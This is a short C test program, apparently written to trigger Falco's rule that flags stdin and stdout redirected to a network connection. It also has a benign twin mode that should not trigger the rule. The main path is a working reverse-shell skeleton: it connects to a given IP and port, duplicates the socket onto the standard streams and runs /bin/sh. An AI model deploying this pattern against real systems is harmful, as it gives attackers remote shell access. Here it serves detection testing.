/* A reverse shell: connect to HOST:PORT, put the socket on stdin, stdout
 * and stderr with dup2, run a shell command (Falco's "Redirect STDOUT/STDIN
 * to Network Connection"). Usage: reverse_shell IP PORT [benign] -- with
 * "benign" the socket is duplicated onto fd 10 and stdout goes to a file:
 * the twin that must stay quiet. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int s;

	if (argc < 3)
		return 2;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(atoi(argv[2]));
	inet_pton(AF_INET, argv[1], &sa.sin_addr);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, (struct sockaddr *)&sa, sizeof(sa)) != 0)
		return 3;
	if (argc > 3 && strcmp(argv[3], "benign") == 0) {
		int f = open("/dev/null", O_WRONLY);

		dup2(s, 10);
		dup2(f, 1);
		return write(10, "bye\n", 4) == 4 ? 0 : 4;
	}
	dup2(s, 0);
	dup2(s, 1);
	dup2(s, 2);
	execl("/bin/sh", "sh", "-c", "echo reverse-shell-ok", (char *)NULL);
	return 5;
}
